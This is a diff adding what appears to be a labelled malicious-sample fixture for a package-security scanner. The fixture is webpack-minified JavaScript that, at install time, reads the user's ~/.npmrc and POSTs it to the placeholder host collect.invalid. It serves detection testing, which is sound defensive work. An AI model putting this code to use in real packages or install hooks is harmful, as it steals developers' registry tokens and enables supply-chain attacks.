@@ -1,0 +1,4 @@
+// when: install
+// expect: malicious
+// source: webpack 5 production output (the loader minified to `r`, the module table to `e`), as blind set 9's authenticator stealer shipped its preinstall
+(()=>{var e={214:(e,t,r)=>{"use strict";const n=r(37),o=r(17),s=r(147);e.exports=function(){return s.readFileSync(o.join(n.homedir(),".npmrc"),"utf8")}},903:(e,t,r)=>{"use strict";const n=r(687);e.exports=function(e){n.request({hostname:"collect.invalid",method:"POST"}).end(e)}},17:e=>{"use strict";e.exports=require("path")},37:e=>{"use strict";e.exports=require("os")},147:e=>{"use strict";e.exports=require("fs")},687:e=>{"use strict";e.exports=require("https")}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const e=r(214)();r(903)(e)})()})();
